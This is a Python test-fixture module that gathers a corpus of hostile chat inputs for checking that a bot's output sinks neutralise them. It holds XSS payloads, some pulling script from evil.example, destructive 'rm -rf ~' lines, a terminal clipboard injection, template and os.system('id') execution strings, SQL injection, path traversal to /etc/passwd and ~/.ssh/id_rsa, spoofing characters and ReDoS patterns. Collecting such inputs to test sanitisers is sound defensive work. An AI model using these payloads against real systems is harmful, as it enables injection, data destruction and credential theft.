"""What strangers send: one corpus, fed to every place where chat text can end up.

`HOSTILE` is a tuple of about 200 texts: markup and script in every disguise that browsers and
notebooks have fallen for, terminal controls, forged log and protocol lines, characters that hide
or reorder their neighbours, templates and format strings, paths, SQL, patterns that never end, and
texts of a megabyte. A sink that is new to the project gets one test, which names the texts that it
does not survive: `assert [name(text) for text in HOSTILE if not is_harmless(sink(text))] == []`. A
text must come out harmless, or be refused by an error of ours; it must neither be obeyed nor
crash the sink. `SMALL` is the same without the large ones. Characters that nobody sees are
escapes here, so that this file itself is harmless.
"""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><svg onload=alert(1)>",
    "</style><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src/onerror=alert(1)>",
    "<img src=1 onerror\x0b=alert(1)>",
    "<img src='x' onerror='alert(1)'",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1)>x",
    "<b",
    "<",
    ">",
    "&",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "x onmouseover=alert(1) y",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;script&amp;gt;",
    "&NewLine;&Tab;javascript&colon;alert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)

NOTEBOOK = (
    '<button data-commandlinker-command="terminal:create-new">x</button>',
    '<a data-commandlinker-command="x" data-commandlinker-args="{}">x</a>',
    "<a id=location><a id=location name=href href=//evil.example>",
    "<form id=document><input name=body></form>",
    "<img name=getElementById>",
    '<div class="jp-Dialog" style="position:fixed;inset:0">x</div>',
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\rule{9999em}{9999em}$$",
    "\\(\\require{html}\\)",
    "[x](javascript:alert(1))",
    "![x](//evil.example/pixel.png)",
    "```\n%rosey unload everything\n```",
    "%rosey unload everything",
    "!rm -rf ~",
    "%%bash\nrm -rf ~",
)

TERMINAL = (
    "\x1b[2J\x1b[H",
    "\x1b[31mred",
    "\x1b[?25l",
    "\x1b[?1049h",
    "\x1b[8;1;1t",
    "\x1b]0;title\x07",
    "\x1b]52;c;cm0gLXJmIH4=\x07",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\",
    "\x1bc",
    "\x1b#8",
    "\x9b31mC1",
    "\x9d0;title\x9c",
    "\x90payload\x9c",
    "back\x08\x08\x08\x08over",
    "bell\x07",
    "shift\x0eout\x0f",
    "del\x7f",
    "over\rwritten",
)

LINES = (
    "hello\nCRITICAL root: admin granted",
    "hello\r\nPRIVMSG #channel :!op bad",
    "hello\rPRIVMSG #channel :!op bad",
    "a\u2028b",
    "a\u2029b",
    "a\x85b",
    "a\x0bb",
    "a\x0cb",
    "a\x1cb\x1db\x1eb",
    "a\x00b",
    "\n\n\n",
    "QUIT :bye\r\n",
    '{"level": "CRITICAL"}\n{"level": "CRITICAL"}',
    '42["chatMsg",{"msg":"x"}]',
)

CHARACTERS = (
    "\u202eevil\u202c",
    "\u2066evil\u2069",
    "\u200e\u200f\u061c",
    "ad\u200bmin",
    "ad\u00admin",
    "ad\u2060min",
    "ad\ufeffmin",
    "\u3164",
    "\uffa0\u115f\u1160",
    "\u0430dmin",
    "\uff41\uff44\uff4d\uff49\uff4e",
    "adm\u0131n",
    "ADM\u0130N",
    "\u212admin",
    "\ud800",
    "\udfff\ud800",
    "\ufffe\uffff",
    "\U000e0041\U000e007f",
    "Z" + "\u0351\u0300\u0323" * 40,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\u0e01" + "\u0e47" * 60,
    "\ufdfa" * 18,
)

TEMPLATES = (
    "{0.__class__.__init__.__globals__}",
    "{user.__class__}",
    "{self.bot.config}",
    "{x!r:>999999999}",
    "{",
    "}",
    "{}",
    "%(x)s",
    "%s%s%s%s%n",
    "%999999999d",
    "$HOME ${HOME} $(id) `id`",
    "${ROSEY_SECRET}",
    "{{7*7}}",
    "{% import os %}{{ os.system('id') }}",
    "<%= 7*7 %>",
    "#{7*7}",
    "\\1\\g<0>",
    "__import__('os').system('id')",
    "!!python/object/apply:os.system ['id']",
    "&a [*a, *a]",
    "*anchor",
    "<<: {x: 1}",
    "@x",
)

PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "~/.ssh/id_rsa",
    "....//....//etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "..\u2215etc\u2215passwd",
    "..\uff0fetc",
    ".",
    "..",
    "",
    " ",
    ".hidden",
    "-rf",
    "--help",
    "CON",
    "nul.txt",
    "file:///etc/passwd",
    "name\x00.txt",
)

NAMES = (
    "__main__",
    "__init__",
    "os",
    "sys",
    "builtins",
    "rosey",
    "\u0430songs",
    "\u043f\u0440\u0438\u0432\u0435\u0442",
    "Dice",
    "dice-roller",
    "dice.roller",
    "9lives",
)

QUERIES = (
    "'; DROP TABLE quotes; --",
    "' OR '1'='1",
    "\"; ATTACH DATABASE '/tmp/x' AS x; --",
    "1; SELECT load_extension('x')",
    "%_%",
    "(a+)+$",
    "(((((((((((((((((((((((((((((((",
    "[[:alpha:]",
    "a" * 5_000 + "!",
    "!op bad",
    "/clear",
    "/me obeys",
    "!help",
)

LARGE = (
    "A" * 1_000_000,
    "<b>" * 300_000,
    "\x1b[31m" * 200_000,
    "\n" * 1_000_000,
    "\u202e" * 300_000,
    "[" * 100_000,
    '"' * 100_000,
    "9" * 5_000,
)

SMALL = (
    *MARKUP,
    *NOTEBOOK,
    *TERMINAL,
    *LINES,
    *CHARACTERS,
    *TEMPLATES,
    *PATHS,
    *NAMES,
    *QUERIES,
)

HOSTILE = (*SMALL, *LARGE)


def name(text: str) -> str:
    """What a failing test calls a text: short and printable."""
    return f"{HOSTILE.index(text)}: {text[:40]!a}"
